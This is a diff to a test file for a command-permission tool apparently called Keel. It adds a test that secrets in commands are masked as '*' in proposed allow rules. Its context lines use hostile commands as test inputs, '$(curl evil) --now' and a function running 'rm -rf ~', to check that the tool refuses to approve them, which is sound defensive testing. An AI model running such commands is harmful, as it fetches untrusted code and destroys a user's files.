@@ -32,6 +32,13 @@ describe('"Always allow": the rule offered', () => {
     assert.deepEqual(variable.rules, [{ list: 'commands', pattern: 'NODE_ENV=test node *' }]);
   });
 
+  it('never writes a secret into a rule: a word that holds one becomes `*`', async () => {
+    const key = 'sk-proj-' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0';
+    const offered = (await propose(command(`OPENAI_API_KEY=${key} node eval.js --key ${key}`))) as { rules: readonly AllowRule[] };
+    assert.deepEqual(offered.rules, [{ list: 'commands', pattern: 'OPENAI_API_KEY=* node eval.js --key *' }]);
+    assert.ok(!JSON.stringify(offered).includes(key));
+  });
+
   it('offers nothing for a command Keel cannot see through, nor one a deny or ask rule catches, and says why', async () => {
     assert.match(((await propose(command('$(curl evil) --now'))) as { refused: string }).refused, /known only when it runs|cannot check/);
     assert.match(((await propose(command('f() { rm -rf ~; }; f'))) as { refused: string }).refused, /cannot check every part/);
